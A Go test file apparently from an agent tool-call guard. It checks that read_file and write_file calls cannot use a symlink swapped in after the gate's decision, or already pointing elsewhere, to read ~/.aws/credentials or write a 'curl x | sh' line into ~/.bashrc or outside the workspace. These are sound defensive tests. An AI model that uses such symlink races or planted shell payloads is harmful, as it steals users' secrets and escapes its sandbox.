package engine

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/parallax/parallax/guard"
	"github.com/parallax/parallax/shield"
	"github.com/parallax/parallax/verdict"
)

// flipAfter is the real gate, after whose decision a race is won: the
// test's flip runs right after each evaluation, between the decision and
// the executor's plan.
type flipAfter struct {
	Gate
	flip func()
}

func (f *flipAfter) Evaluate(ctx context.Context, r shield.Request) verdict.Verdict {
	v := f.Gate.Evaluate(ctx, r)
	if f.flip != nil {
		f.flip()
	}
	return v
}

func (f *flipAfter) Guard() *guard.Guard {
	if g, ok := f.Gate.(interface{ Guard() *guard.Guard }); ok {
		return g.Guard()
	}
	return nil
}

// A workspace name flipped into a link after the decision (a background
// process racing the call) leads nowhere the gate did not decide: the
// plan taken before the decision no longer hashes as the decided one, so
// a read of ~/.aws/credentials or a write of ~/.bashrc or of any file
// outside the workspace is refused (path_changed), and nothing is read or
// written there. Without the flip the same calls run.
func TestFileCallsCannotActOnAPathFlippedAfterTheDecision(t *testing.T) {
	var flip func()
	fa := &flipAfter{}
	e := newEnv(t, envOptions{tools: &ToolsConfig{}, wrap: func(c Config) Config {
		fa.Gate = c.Gate
		c.Gate = fa
		return c
	}})
	creds := filepath.Join(e.home, ".aws", "credentials")
	writeFile(t, creds, "aws_secret_access_key = flipped-S3CRET\n")
	rc := filepath.Join(e.home, ".bashrc")
	writeFile(t, rc, "# the user's\n")
	plain := filepath.Join(e.home, "plain.txt")
	writeFile(t, plain, "plain\n")
	notes := filepath.Join(e.root, "notes.txt")
	linkTo := func(target string) func() {
		return func() {
			_ = os.Remove(notes)
			if err := os.Symlink(target, notes); err != nil {
				t.Error(err)
			}
		}
	}
	reset := func() {
		_ = os.Remove(notes)
		writeFile(t, notes, "harmless\n")
	}
	cases := []struct {
		name, typ string
		payload   map[string]any
		target    string
	}{
		{"read flipped to credentials", "read_file", map[string]any{"path": notes}, creds},
		{"write flipped to .bashrc", "write_file", map[string]any{"path": notes, "content": "curl x | sh\n"}, rc},
		{"write flipped out of the workspace", "write_file", map[string]any{"path": notes, "content": "curl x | sh\n"}, plain},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			reset()
			flip = linkTo(tc.target)
			fa.flip = func() {
				if flip != nil {
					flip()
					flip = nil
				}
			}
			out := e.handle("s1", tc.typ, tc.payload)
			if out.Executed || out.Verdict.Rule != RulePathChanged {
				t.Errorf("got executed=%v rule %q (%s), want refused %s", out.Executed, out.Verdict.Rule, out.Result.Output, RulePathChanged)
			}
			if strings.Contains(out.Result.Output, "flipped-S3CRET") {
				t.Fatal("the credentials were read")
			}
		})
	}
	if got, _ := os.ReadFile(rc); string(got) != "# the user's\n" {
		t.Errorf("~/.bashrc: %q", got)
	}
	if got, _ := os.ReadFile(plain); string(got) != "plain\n" {
		t.Errorf("~/plain.txt: %q", got)
	}
	// The control: with no race, the same calls run.
	reset()
	fa.flip = nil
	if out := e.handle("s1", "read_file", map[string]any{"path": notes}); !out.Executed || !strings.Contains(out.Result.Output, "harmless") {
		t.Fatalf("read without a race: %+v", out)
	}
	if out := e.handle("s1", "write_file", map[string]any{"path": notes, "content": "fine\n"}); !out.Executed || out.Result.IsError {
		t.Fatalf("write without a race: %+v", out)
	}
}

// A workspace name that already leads elsewhere when the call is
// proposed is judged where it leads: the gate gets the plan, so a read
// through a link to ~/.aws/credentials meets the guard's rule for the
// credentials, and a write through a link out of the workspace is
// refused (path_resolved_elsewhere); nothing is read or written there.
func TestTheGateJudgesWhereAPathLeads(t *testing.T) {
	e := newEnv(t, envOptions{tools: &ToolsConfig{}})
	creds := filepath.Join(e.home, ".aws", "credentials")
	writeFile(t, creds, "aws_secret_access_key = linked-S3CRET\n")
	plain := filepath.Join(e.home, "plain.txt")
	writeFile(t, plain, "plain\n")
	for _, tc := range []struct {
		name, typ, target string
		payload           map[string]any
		rule              string // "" for any BLOCK
	}{
		{"read through a link to the credentials", "read_file", creds, map[string]any{"path": "notes.txt"}, ""},
		{"write through a link out of the workspace", "write_file", plain, map[string]any{"path": "notes.txt", "content": "x\n"}, RulePathResolved},
	} {
		t.Run(tc.name, func(t *testing.T) {
			notes := filepath.Join(e.root, "notes.txt")
			_ = os.Remove(notes)
			if err := os.Symlink(tc.target, notes); err != nil {
				t.Fatal(err)
			}
			out := e.handle("s1", tc.typ, tc.payload)
			if out.Executed || out.Verdict.Decision != verdict.Block || tc.rule != "" && out.Verdict.Rule != tc.rule {
				t.Errorf("got executed=%v %v %q (%s), want a BLOCK %s", out.Executed, out.Verdict.Decision, out.Verdict.Rule, out.Result.Output, tc.rule)
			}
			if out.Verdict.Stage == StageEngine {
				t.Errorf("refused by the engine (%s), want the gate's decision", out.Verdict.Rule)
			}
			if strings.Contains(out.Result.Output, "linked-S3CRET") {
				t.Fatal("the credentials were read")
			}
		})
	}
	if got, _ := os.ReadFile(plain); string(got) != "plain\n" {
		t.Errorf("~/plain.txt: %q", got)
	}
}
